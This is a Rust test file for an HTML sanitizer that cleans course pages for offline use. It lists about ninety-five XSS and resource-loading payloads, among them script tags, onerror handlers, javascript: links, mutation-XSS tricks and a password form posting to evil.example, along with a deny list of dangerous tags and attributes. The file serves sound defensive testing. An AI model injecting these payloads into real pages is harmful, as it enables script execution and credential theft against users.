//! Markup that tries to run, to load or to leave: none of it survives, and honest markup does.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, missing_docs)]

use daypack_course::outline::OnlineKind;
use daypack_formats::html::{clean_fragment, clean_page, plain_text};
use scraper::{Html, Node};

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=\"jav\tascript:alert(1)\">",
    "<img srcset='https://evil.example/a 2x' src=a.png>",
    "<img src=//evil.example/a.png>",
    "<img src=\\\\evil.example\\a.png>",
    "<img src=\"/\t/evil.example/a.png\">",
    "<img src=https://evil.example/a.png>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\u{0}script:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=ms-msdt:/id>x</a>",
    "<a onclick=alert(1) href=https://example.org>x</a>",
    "<a href=tauri://localhost>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<frameset onload=alert(1)><frame src=https://evil.example></frameset>",
    "<object data=https://evil.example/x.swf></object>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input type=password name=p><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example/x>",
    "<link rel=preconnect href=https://evil.example>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<div style=\"background:url(https://evil.example/a)\">x</div>",
    "<div style=\"background-color:u\\72l(https://evil.example/a)\">x</div>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(https://evil.example)'>x</div>",
    "<table background=https://evil.example/a.png><tr><td>x</table>",
    "<body onload=alert(1) background=https://evil.example/a.png>",
    "<video src=https://evil.example/v.mp4 autoplay onplay=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=https://evil.example/p.png src=a.mp4></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=location name=cookie>x</p>",
    "<a ping=https://evil.example href=https://example.org>x</a>",
    "<img usemap=#m src=a.png><map name=m><area href=javascript:alert(1)></map>",
    "<track src=https://evil.example/t.vtt>",
    "<portal src=https://evil.example></portal>",
    "<dialog open>Your session has expired <input type=password></dialog>",
    "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>",
    "<p style='x:\\'\"><img src=x onerror=alert(1)>'>x</p>",
];

/// What must not be in cleaned HTML, judged by parsing it again as a browser would.
fn faults(html: &str) -> Vec<String> {
    let tree = Html::parse_document(html);
    let mut out = Vec::new();
    for node in tree.tree.nodes() {
        let Node::Element(e) = node.value() else { continue };
        let bad = [
            "script", "iframe", "frame", "object", "embed", "applet", "form", "input", "button", "select",
            "textarea", "base", "style", "svg", "template", "noscript", "portal", "area", "marquee",
            "dialog", "option",
        ];
        if bad.contains(&e.name()) {
            out.push(format!("<{}>", e.name()));
        }
        for (name, value) in e.attrs() {
            let plain: String = value.chars().filter(|c| *c > ' ').collect::<String>().to_lowercase();
            if name.starts_with("on")
                || matches!(
                    name,
                    "srcset"
                        | "srcdoc"
                        | "action"
                        | "formaction"
                        | "background"
                        | "ping"
                        | "http-equiv"
                        | "autofocus"
                        | "autoplay"
                )
            {
                out.push(format!("{name}={value}"));
            }
            if ["javascript:", "vbscript:", "data:text", "data:image/svg", "file:", "ms-msdt:", "tauri:"]
                .iter()
                .any(|s| plain.starts_with(s))
            {
                out.push(format!("{name}={value}"));
            }
            let loads = matches!(name, "src" | "poster") || (e.name() == "link" && name == "href");
            if loads
                && (plain.contains("//")
                    || plain.contains("\\\\")
                    || plain.contains(":") && !plain.starts_with("data:image/"))
            {
                out.push(format!("{name}={value}"));
            }
            if name == "style"
                && ["url", "position", "expression", "binding", "\\", "z-index"]
                    .iter()
                    .any(|s| plain.contains(s))
            {
                out.push(format!("{name}={value}"));
            }
        }
    }
    out
}

#[test]
fn no_payload_survives_in_a_fragment_or_a_page() {
    assert!(PAYLOADS.len() >= 60);
    for payload in PAYLOADS {
        for wrapped in [
            payload.to_string(),
            format!("<p>before</p>{payload}<p>after</p>"),
            format!("<table><tr><td>{payload}"),
        ] {
            let fragment = clean_fragment(&wrapped);
            assert_eq!(faults(&fragment), Vec::<String>::new(), "{wrapped}\n{fragment}");
            assert!(!fragment.contains("style="), "{fragment}");
            assert_eq!(clean_fragment(&fragment), fragment, "cleaning twice changes nothing: {wrapped}");
            let page = clean_page(&wrapped, "a/page.html");
            assert_eq!(faults(&page.html), Vec::<String>::new(), "{wrapped}\n{}", page.html);
            assert_eq!(clean_page(&page.html, "a/page.html").html, page.html, "twice: {wrapped}");
        }
    }
}

#[test]
fn the_judge_of_this_test_sees_the_payloads_themselves() {
    let blind: Vec<&&str> = PAYLOADS.iter().filter(|p| faults(p).is_empty()).collect();
    assert!(blind.len() <= PAYLOADS.len() / 5, "{blind:#?}");
}

#[test]
fn honest_markup_stays() {
    let html = "<h2>T</h2><p>a <b>b</b> <i>c</i><sub>2</sub></p><ul><li>x</li></ul><table><tbody><tr><td colspan=\"2\">y</td></tr></tbody></table><img src=\"pics/a.png\" alt=\"A\"><img src=\"data:image/png;base64,AAAA\" alt=\"\"><a href=\"https://example.org/\">l</a>";
    let clean = clean_fragment(html);
    for part in [
        "<h2>T</h2>",
        "<b>b</b>",
        "<sub>2</sub>",
        "colspan=\"2\"",
        "src=\"pics/a.png\"",
        "data:image/png",
        "href=\"https://example.org/\"",
        "rel=\"noopener noreferrer\"",
    ] {
        assert!(clean.contains(part), "{part} in {clean}");
    }
    let page = clean_page(
        "<!doctype html><html lang=de dir=ltr><head><title> My  page </title><link rel=stylesheet href='s.css'></head><body><main class=m><h1 id=top>T</h1><p style='text-align:center'>x</p><video src='v%20one.mp4' poster=p.png></video><math><mfrac><mn>1</mn><mn>2</mn></mfrac></math><a href='#top'>up</a><a href='other.pdf#page=2'>o</a></main></body></html>",
        "text/page.html",
    );
    assert_eq!(page.title, "My page");
    assert_eq!(page.local_refs, ["s.css", "v one.mp4", "p.png", "other.pdf"]);
    assert!(page.needs.is_empty() && !page.scripts_removed, "{page:?}");
    for part in [
        "lang=\"de\"",
        "href=\"s.css\"",
        "class=\"m\"",
        "id=\"top\"",
        "text-align:center",
        "src=\"v%20one.mp4\"",
        "controls",
        "<mfrac>",
        "href=\"#top\"",
        "other.pdf#page=2",
    ] {
        assert!(page.html.contains(part), "{part} in {}", page.html);
    }
}

#[test]
fn what_is_elsewhere_becomes_a_labelled_block_and_a_need() {
    let page = clean_page(
        "<iframe title='A talk' src='//www.youtube-nocookie.com/embed/x'></iframe><img src=http://pics.example/a.png alt=Dog><video><source src=https://cdn.example/v.mp4></video><audio src=https://cdn.example/a.mp3></audio><iframe src=https://maps.example/></iframe><script>1</script>",
        "p.html",
    );
    let needs: Vec<(OnlineKind, &str)> = page.needs.iter().map(|n| (n.what, n.host.as_str())).collect();
    assert_eq!(
        needs,
        [
            (OnlineKind::Video, "www.youtube-nocookie.com"),
            (OnlineKind::Image, "pics.example"),
            (OnlineKind::Video, "cdn.example"),
            (OnlineKind::Audio, "cdn.example"),
            (OnlineKind::Frame, "maps.example"),
        ]
    );
    assert!(page.scripts_removed);
    assert!(
        page.html.contains(
            "<div class=\"daypack-online\" data-host=\"www.youtube-nocookie.com\" data-what=\"video\">"
        ),
        "{}",
        page.html
    );
    assert!(page.html.contains(">A talk</a>") && page.html.contains(">Dog</a>"));
}

#[test]
fn paths_are_seen_from_the_page_and_never_leave_the_course() {
    let page = clean_page(
        "<img src='a%20b.png?x=1'><img src='../pics/c.png'><img src='../../../d.png'><img src='/e.png'><img src='%2e%2e/%2e%2e/f.png'>",
        "text/page.html",
    );
    assert_eq!(page.local_refs, ["a b.png", "~/pics/c.png", "~/e.png"]);
    assert!(page.html.contains("src=\"~/pics/c.png\""), "{}", page.html);
}

#[test]
fn deep_nesting_does_not_exhaust_the_stack() {
    let deep = "<div>".repeat(20_000) + "x";
    assert!(clean_page(&deep, "p.html").html.contains('x'));
    assert_eq!(plain_text(&deep), "x");
    assert!(clean_fragment(&format!("{deep}<script>alert(1)</script>")).starts_with('x'));
    let usual = "<div>".repeat(300) + "x" + &"</div>".repeat(300);
    assert_eq!(clean_fragment(&usual), usual, "control: usual nesting stays");
}

#[test]
fn plain_text_has_a_line_for_each_block() {
    assert_eq!(
        plain_text(
            "<p>One <b>two</b>\n three</p><ul><li>a</li><li>b&amp;c</li></ul><script>no</script><img alt=pic>"
        ),
        "One two three\na\nb&c\npic"
    );
}

/// A page as a real Moodle gave it out: with a script, a frame and links into the site.
#[test]
fn html_is_not_clean() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../tests/corpus/moodle/transport/webservice_pluginfile.json"
    );
    let all: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let found =
        all["recordings"].as_array().unwrap().iter().find(|r| r["id"] == "ok-page-index-html").unwrap();
    let html = found["response"]["text"].as_str().unwrap();
    // The control: it is there before.
    assert!(html.contains("<script"), "{html}");
    let page = clean_page(html, "index.html");
    assert!(page.scripts_removed && !page.html.contains("<script"), "{}", page.html);
    assert!(!clean_fragment(html).contains("<script"));
}
